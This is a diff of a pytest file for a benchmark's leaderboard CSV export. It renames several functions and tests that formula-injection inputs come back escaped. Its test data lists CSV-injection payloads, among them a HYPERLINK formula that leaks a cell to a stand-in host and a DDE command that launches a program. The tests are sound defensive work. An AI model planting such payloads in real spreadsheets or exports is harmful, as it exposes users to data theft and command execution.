@@ -8,10 +8,10 @@ import io
 import pytest
 
 from boards import made, recorded_run
-from merbench.csv_text import read, rows_text, table_text
+from merbench.csv_text import read_csv, rows_text, table_text
 from merbench.leaderboard import files
 from merbench.separation.chart import write_csv
-from merbench.separation.scoring import Score
+from merbench.separation.scoring import SeparationScore
 
 SIGNS = "=+-@\t\r"
 ATTACKS = ['=HYPERLINK("http://x/?"&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
@@ -29,7 +29,7 @@ def test_no_cell_of_a_leaderboard_begins_with_a_formula(attack, tmp_path):
         made("b", [[0.3, 0.1]], features=attack),
         made("c", [[0.1, 0.1]], failed={0: attack}),
     )
-    composed = files.compose([run])
+    composed = files.compose_board([run])
     numbers = 0
     for name, text in composed.texts.items():
         if not name.endswith(".csv"):
@@ -40,15 +40,19 @@ def test_no_cell_of_a_leaderboard_begins_with_a_formula(attack, tmp_path):
                 numbers += 1
         (tmp_path / name).write_text(text, encoding="utf-8", newline="")
     assert numbers
-    back = read(tmp_path / files.LEADERBOARD)
+    back = read_csv(tmp_path / files.LEADERBOARD)
     assert attack in set(back["separator"]) & set(back["model"])
     assert attack in set(back["features"])
     assert attack in set(back["error"])
 
 
 def test_scores_of_separators_are_harmless(tmp_path):
-    values = dict.fromkeys(Score._fields, -1.5) | {"track": "=1+1", "stem": "@x", "method": "-a"}
-    write_csv(tmp_path / "scores.csv", [Score(**values)])
+    values = dict.fromkeys(SeparationScore._fields, -1.5) | {
+        "track": "=1+1",
+        "stem": "@x",
+        "method": "-a",
+    }
+    write_csv(tmp_path / "scores.csv", [SeparationScore(**values)])
     (_, _row) = csv.DictReader((tmp_path / "scores.csv").open()), None
     found = next(iter(csv.DictReader((tmp_path / "scores.csv").open())))
     assert (found["track"], found["stem"], found["method"]) == ("'=1+1", "'@x", "'-a")
